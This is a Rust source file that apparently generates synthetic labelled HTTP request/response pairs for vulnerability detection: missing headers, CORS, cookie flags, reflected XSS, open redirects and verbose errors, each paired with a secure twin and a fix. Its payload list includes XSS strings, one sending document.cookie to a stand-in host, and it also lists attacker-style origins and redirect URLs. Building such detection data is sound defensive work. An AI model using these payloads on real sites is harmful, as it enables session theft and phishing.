//! HTTP request / response pairs with secure twins: security headers (HSTS, CSP,
//! X-Frame-Options, X-Content-Type-Options, Referrer-Policy), CORS, cookies (Secure,
//! HttpOnly, SameSite), reflected XSS with and without encoding, open redirect, verbose
//! errors and version banners.

use super::Rng;
use crate::sample::{Sample, SampleKind};
use vigil_taxonomy::Taxonomy;

pub const TYPES: &[&str] = &[
    "missing_security_headers",
    "cors_misconfiguration",
    "insecure_cookie",
    "xss",
    "open_redirect",
    "information_disclosure",
];

const HOSTS: &[&str] = &[
    "shop.example.com",
    "app.example.org",
    "portal.example.net",
    "api.example.io",
    "accounts.example.dev",
    "store.example.co",
    "my.example.app",
    "billing.example.com",
    "travel.example.org",
    "news.example.net",
];
const PATHS: &[&str] = &[
    "/",
    "/account",
    "/dashboard",
    "/search",
    "/products",
    "/profile/settings",
    "/orders",
    "/cart",
    "/help/articles",
    "/reports/monthly",
    "/api/session",
    "/login",
    "/catalog/items",
    "/inbox",
];
const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "curl/8.5.0",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Mobile Safari/537.36",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
];
const SERVERS: &[&str] = &[
    "nginx/1.18.0",
    "Apache/2.4.41 (Ubuntu)",
    "Microsoft-IIS/8.5",
    "Jetty(9.4.18.v20190429)",
    "openresty/1.19.3.1",
    "Kestrel",
];
const POWERED: &[&str] = &[
    "PHP/7.2.24",
    "Express",
    "ASP.NET",
    "Servlet/3.1",
    "Next.js 13.4.1",
];
const COOKIES: &[&str] = &[
    "session",
    "sid",
    "auth_token",
    "JSESSIONID",
    "PHPSESSID",
    "connect.sid",
    "remember_me",
    "csrftoken",
];
const ORIGINS: &[&str] = &[
    "https://evil.example",
    "https://attacker.test",
    "null",
    "https://example.com.attacker.net",
    "http://localhost:8000",
];
const PARAMS: &[&str] = &[
    "q", "search", "term", "name", "msg", "ref", "lang", "keyword",
];
const PAYLOADS: &[&str] = &[
    "\"><script>alert(document.domain)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=fetch('//x.test/'+document.cookie)>",
    "'><iframe src=javascript:alert(2)>",
    "<details open ontoggle=alert(3)>",
];
const REDIRECT_PARAMS: &[&str] = &["next", "return", "redirect_uri", "continue", "url", "dest"];
const EVIL_URLS: &[&str] = &[
    "https://evil.example/login",
    "//attacker.test/phish",
    "https://example.com.evil.test/",
    "http://phish.example.net/reset",
];
const TITLES: &[&str] = &[
    "Dashboard",
    "My account",
    "Search results",
    "Orders",
    "Welcome",
    "Catalog",
    "Reports",
    "Help center",
];
const ERRORS: &[(&str, &str)] = &[
    ("java", "java.sql.SQLSyntaxErrorException: You have an error in your SQL syntax near ''' at line 1\n\tat com.mysql.cj.jdbc.ClientPreparedStatement.executeQuery(ClientPreparedStatement.java:1003)\n\tat com.example.shop.OrderDao.find(OrderDao.java:88)"),
    ("python", "Traceback (most recent call last):\n  File \"/srv/app/views.py\", line 42, in order_detail\n    row = cursor.execute(query).fetchone()\nsqlite3.OperationalError: near \"'\": syntax error"),
    ("php", "Fatal error: Uncaught PDOException: SQLSTATE[42000]: Syntax error in /var/www/html/app/Order.php:57\nStack trace:\n#0 /var/www/html/app/Order.php(57): PDO->query()"),
    ("dotnet", "System.NullReferenceException: Object reference not set to an instance of an object.\n   at Shop.Controllers.OrdersController.Get(Int32 id) in C:\\build\\Shop\\Controllers\\OrdersController.cs:line 31"),
    ("node", "TypeError: Cannot read properties of undefined (reading 'id')\n    at /app/routes/orders.js:27:31\n    at Layer.handle [as handle_request] (/app/node_modules/express/lib/router/layer.js:95:5)"),
];

struct Msg {
    start: String,
    headers: Vec<(String, String)>,
    body: String,
}

impl Msg {
    fn render(&self, crlf_blank: bool) -> String {
        let mut s = self.start.clone();
        for (k, v) in &self.headers {
            s.push('\n');
            s.push_str(k);
            s.push_str(": ");
            s.push_str(v);
        }
        s.push('\n');
        if crlf_blank || !self.body.is_empty() {
            s.push('\n');
        }
        s.push_str(&self.body);
        s
    }
}

fn shuffle<T>(rng: &mut Rng, v: &mut [T]) {
    for i in (1..v.len()).rev() {
        let j = rng.below(i + 1);
        v.swap(i, j);
    }
}

fn hexs(rng: &mut Rng, n: usize) -> String {
    (0..n)
        .map(|_| char::from_digit(rng.below(16) as u32, 16).unwrap_or('0'))
        .collect()
}

fn date(rng: &mut Rng) -> String {
    let days = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"];
    let months = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    format!(
        "{}, {:02} {} 20{} {:02}:{:02}:{:02} GMT",
        rng.pick(&days),
        1 + rng.below(28),
        rng.pick(&months),
        23 + rng.below(3),
        rng.below(24),
        rng.below(60),
        rng.below(60)
    )
}

fn html_page(rng: &mut Rng, title: &str, inner: &str) -> String {
    let lang = rng.pick(&["en", "de", "fr", "es", "nl"]);
    format!(
        "<!DOCTYPE html>\n<html lang=\"{lang}\">\n<head><meta charset=\"utf-8\"><title>{title}</title></head>\n<body>\n<h1>{title}</h1>\n{inner}\n<footer>build {}</footer>\n</body>\n</html>",
        hexs(rng, 7)
    )
}

fn encode_html(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#x27;")
}

fn url_encode(s: &str) -> String {
    s.bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

/// One template instance: (vulnerable pair, secure twin).
pub fn instance(rng: &mut Rng, t: &str) -> (Sample, Sample) {
    let host = rng.pick(HOSTS).to_string();
    let mut path = rng.pick(PATHS).to_string();
    let agent = rng.pick(AGENTS).to_string();
    let title = rng.pick(TITLES).to_string();
    let server = rng.pick(SERVERS).to_string();
    let crlf_blank = rng.chance(0.5);
    let mut req_headers = vec![
        ("Host".to_string(), host.clone()),
        ("User-Agent".to_string(), agent),
        (
            "Accept".to_string(),
            rng.pick(&[
                "text/html,application/xhtml+xml,*/*;q=0.8",
                "*/*",
                "application/json",
                "text/html",
            ])
            .to_string(),
        ),
        (
            "Accept-Language".to_string(),
            rng.pick(&[
                "en-US,en;q=0.9",
                "de-DE,de;q=0.8",
                "fr-FR",
                "en-GB,en;q=0.7",
            ])
            .to_string(),
        ),
    ];
    if rng.chance(0.5) {
        req_headers.push((
            "Cookie".into(),
            format!("{}={}", rng.pick(COOKIES), hexs(rng, 24)),
        ));
    }
    if rng.chance(0.3) {
        req_headers.push(("Referer".into(), format!("https://{host}/")));
    }
    let mut vuln_h: Vec<(String, String)> = vec![
        ("Date".into(), date(rng)),
        ("Content-Type".into(), "text/html; charset=utf-8".into()),
    ];
    if rng.chance(0.5) {
        vuln_h.push((
            "Cache-Control".into(),
            rng.pick(&["no-store", "private, max-age=0", "no-cache"])
                .to_string(),
        ));
    }
    if rng.chance(0.4) {
        vuln_h.push(("X-Request-Id".into(), hexs(rng, 16)));
    }
    let secure_headers = [
        (
            "Strict-Transport-Security".to_string(),
            rng.pick(&[
                "max-age=31536000; includeSubDomains",
                "max-age=63072000; includeSubDomains; preload",
            ])
            .to_string(),
        ),
        (
            "Content-Security-Policy".to_string(),
            rng.pick(&[
                "default-src 'self'; frame-ancestors 'none'",
                "default-src 'self'; script-src 'self'; object-src 'none'; frame-ancestors 'none'",
            ])
            .to_string(),
        ),
        ("X-Frame-Options".to_string(), "DENY".to_string()),
        ("X-Content-Type-Options".to_string(), "nosniff".to_string()),
        (
            "Referrer-Policy".to_string(),
            rng.pick(&[
                "strict-origin-when-cross-origin",
                "no-referrer",
                "same-origin",
            ])
            .to_string(),
        ),
    ];
    let mut fixed_h = vuln_h.clone();
    let mut status = "200 OK".to_string();
    let mut fixed_status = status.clone();
    let greeting = rng
        .pick(&[
            "Nothing new today.",
            "You have 3 new messages.",
            "Your order has shipped.",
            "Welcome back.",
        ])
        .to_string();
    let mut body = html_page(rng, &title, &format!("<p>{greeting}</p>"));
    let mut fixed_body = body.clone();
    let method = if t == "cors_misconfiguration" {
        "GET"
    } else {
        *rng.pick(&["GET", "GET", "GET", "POST"])
    };
    let (why, safe_why, fix): (String, String, String);
    match t {
        "missing_security_headers" => {
            // drop 1..=5 of the protective headers in the vulnerable variant
            let mut missing: Vec<usize> = (0..secure_headers.len()).collect();
            shuffle(rng, &mut missing);
            let k = 1 + rng.below(secure_headers.len());
            let missing: Vec<usize> = missing[..k].to_vec();
            for (i, h) in secure_headers.iter().enumerate() {
                if !missing.contains(&i) {
                    vuln_h.push(h.clone());
                }
                fixed_h.push(h.clone());
            }
            let names: Vec<&str> = missing
                .iter()
                .map(|&i| secure_headers[i].0.as_str())
                .collect();
            why = format!("The HTML response from {host}{path} lacks {}. Without them browsers do not enforce HTTPS, framing restrictions or MIME-type checking for this page, which makes TLS stripping, clickjacking and content-sniffing attacks possible.", names.join(", "));
            fix = format!(
                "Send {} on every HTML response, set once in middleware.",
                names.join(", ")
            );
            safe_why = "The response sets HSTS, a restrictive Content-Security-Policy with frame-ancestors, X-Frame-Options DENY, X-Content-Type-Options nosniff and a Referrer-Policy; the browser protections are in place.".into();
        }
        "cors_misconfiguration" => {
            let origin = rng.pick(ORIGINS).to_string();
            path = format!("/api{}", if path == "/" { "/me".to_string() } else { path });
            req_headers.push(("Origin".into(), origin.clone()));
            vuln_h[1].1 = "application/json".into();
            fixed_h[1].1 = "application/json".into();
            body = format!(
                "{{\"id\": {}, \"email\": \"user{}@{host}\", \"plan\": \"pro\"}}",
                1000 + rng.below(90000),
                rng.below(999)
            );
            fixed_body = body.clone();
            vuln_h.push(("Access-Control-Allow-Origin".into(), origin.clone()));
            vuln_h.push(("Access-Control-Allow-Credentials".into(), "true".into()));
            fixed_h.push(("Vary".into(), "Origin".into()));
            why = format!("The API reflects the request's Origin ({origin}) into Access-Control-Allow-Origin and also sends Access-Control-Allow-Credentials: true, so any site the user visits can read this authenticated JSON response.");
            fix = format!("Compare the Origin with an exact allow-list (for example https://{host}) and never reflect arbitrary origins with credentials.");
            safe_why = format!("The request carries a foreign Origin ({origin}) but the response grants no CORS access to it (no Access-Control-Allow-Origin), so the browser keeps the data from that site.");
        }
        "insecure_cookie" => {
            let name = rng.pick(COOKIES).to_string();
            let val = hexs(rng, 32);
            let mut flags = vec!["Secure", "HttpOnly", "SameSite=Lax"];
            shuffle(rng, &mut flags);
            let k = 1 + rng.below(3);
            let dropped: Vec<&str> = flags[..k].to_vec();
            let kept: Vec<&str> = flags[k..].to_vec();
            let mut v = format!("{name}={val}; Path=/");
            for f in &kept {
                v.push_str("; ");
                v.push_str(f);
            }
            vuln_h.push(("Set-Cookie".into(), v));
            fixed_h.push((
                "Set-Cookie".into(),
                format!(
                    "{name}={val}; Path=/; {}",
                    ["Secure", "HttpOnly", "SameSite=Lax"].join("; ")
                ),
            ));
            why = format!("The session cookie `{name}` is set without {}. It can then be sent over plain HTTP, read by injected script, or attached to cross-site requests.", dropped.join(", "));
            fix = format!("Set `{name}` with Secure, HttpOnly and SameSite=Lax (or Strict).");
            safe_why =
                format!("The session cookie `{name}` carries Secure, HttpOnly and SameSite=Lax.");
        }
        "xss" => {
            let p = rng.pick(PARAMS).to_string();
            let payload = rng.pick(PAYLOADS).to_string();
            path = format!(
                "{}?{p}={}",
                if path == "/" { "/search" } else { &path },
                url_encode(&payload)
            );
            body = html_page(
                rng,
                &title,
                &format!("<p>Results for: <span>{payload}</span></p>"),
            );
            fixed_body = body.replace(&payload, &encode_html(&payload));
            for h in [&mut vuln_h, &mut fixed_h] {
                h.push(("X-Content-Type-Options".into(), "nosniff".into()));
            }
            why = format!("The `{p}` parameter is reflected into the HTML body unencoded: the payload `{payload}` appears verbatim inside the page, so the browser executes it in the site's origin (reflected XSS).");
            fix = format!("HTML-encode `{p}` in the template (auto-escaping) and add a Content-Security-Policy that blocks inline script.");
            safe_why = format!("The `{p}` parameter is reflected, but HTML-encoded (`&lt;` … `&gt;`), so the payload is displayed as text and never runs.");
        }
        "open_redirect" => {
            let p = rng.pick(REDIRECT_PARAMS).to_string();
            let evil = rng.pick(EVIL_URLS).to_string();
            path = format!("/login?{p}={}", url_encode(&evil));
            status = "302 Found".into();
            fixed_status = "302 Found".into();
            body = String::new();
            fixed_body = String::new();
            vuln_h.push(("Location".into(), evil.clone()));
            fixed_h.push(("Location".into(), "/".into()));
            why = format!("The `{p}` parameter is copied into the Location header, so the server redirects users to the external address {evil} taken from the link.");
            fix = format!("Redirect only to local paths or an allow-list of hosts; ignore other values of `{p}`.");
            safe_why = format!("The external address in `{p}` is ignored and the server redirects to its own root path.");
        }
        _ => {
            // information_disclosure: stack trace + version banners
            let (_, trace) = *rng.pick(ERRORS);
            path = format!("/orders/{}'", 100 + rng.below(9000));
            status = "500 Internal Server Error".into();
            fixed_status = status.clone();
            let powered = rng.pick(POWERED).to_string();
            vuln_h.push(("Server".into(), server.clone()));
            vuln_h.push(("X-Powered-By".into(), powered.clone()));
            fixed_h.push((
                "Server".into(),
                server.split('/').next().unwrap_or("server").to_string(),
            ));
            body = html_page(rng, "Error", &format!("<pre>{}</pre>", encode_html(trace)));
            let corr = hexs(rng, 12);
            fixed_body = html_page(
                rng,
                "Error",
                &format!("<p>Something went wrong. Reference: {corr}</p>"),
            );
            why = format!("The error page returns a full stack trace with file paths and the failing SQL, and the headers announce `{server}` and `{powered}`; this maps the application's internals and versions for an attacker.");
            fix = "Return a generic error page with a reference id, log the details server-side, and remove version banners.".into();
            safe_why = "The error page shows only a generic message with a reference id, and the Server header carries no version.".into();
        }
    }
    if t == "information_disclosure" {
        // the secure twin hides the version; nothing else to do
    } else if rng.chance(0.5) {
        vuln_h.push(("Server".into(), server.clone()));
        fixed_h.push(("Server".into(), server));
    }
    // header order mutation (the same order for both variants where they share headers)
    let order_seed = rng.next_u64();
    for h in [&mut vuln_h, &mut fixed_h] {
        let mut r = Rng::new(order_seed);
        let tail = h.split_off(1);
        let mut tail = tail;
        shuffle(&mut r, &mut tail);
        h.extend(tail);
    }
    let mut req_tail = req_headers.split_off(1);
    shuffle(rng, &mut req_tail);
    req_headers.extend(req_tail);
    let mut req_body = String::new();
    if method == "POST" {
        req_body = format!("csrf={}&action=save", hexs(rng, 16));
        req_headers.push((
            "Content-Type".into(),
            "application/x-www-form-urlencoded".into(),
        ));
        req_headers.push(("Content-Length".into(), req_body.len().to_string()));
    }
    let req = Msg {
        start: format!("{method} {path} HTTP/1.1"),
        headers: req_headers,
        body: req_body,
    }
    .render(false);
    let mk = |status: &str, mut headers: Vec<(String, String)>, body: &str| {
        headers.push(("Content-Length".into(), body.len().to_string()));
        Msg {
            start: format!("HTTP/1.1 {status}"),
            headers,
            body: body.to_string(),
        }
        .render(crlf_blank)
    };
    let vresp = mk(&status, vuln_h, &body);
    let fresp = mk(&fixed_status, fixed_h, &fixed_body);
    let vt = Taxonomy::builtin()
        .by_id(t)
        .expect("http types are in the taxonomy (tested)");
    let mut v = Sample::new(SampleKind::HttpPair);
    v.request = Some(req.clone());
    v.response = Some(vresp);
    v.endpoint = Some(format!(
        "{method} {}",
        path.split('?').next().unwrap_or("/")
    ));
    v.is_vulnerable = true;
    v.vuln_type = Some(t.into());
    v.cwe = Some(vt.cwe.id);
    v.severity = Some(vt.severity);
    v.analysis = format!("Reason: {why}\nFix: {fix}");
    let mut f = Sample::new(SampleKind::HttpPair);
    f.request = Some(req);
    f.response = Some(fresp);
    f.endpoint = v.endpoint.clone();
    f.is_vulnerable = false;
    f.vuln_type = Some(t.into());
    f.analysis = format!("Reason: {safe_why}");
    (v, f)
}
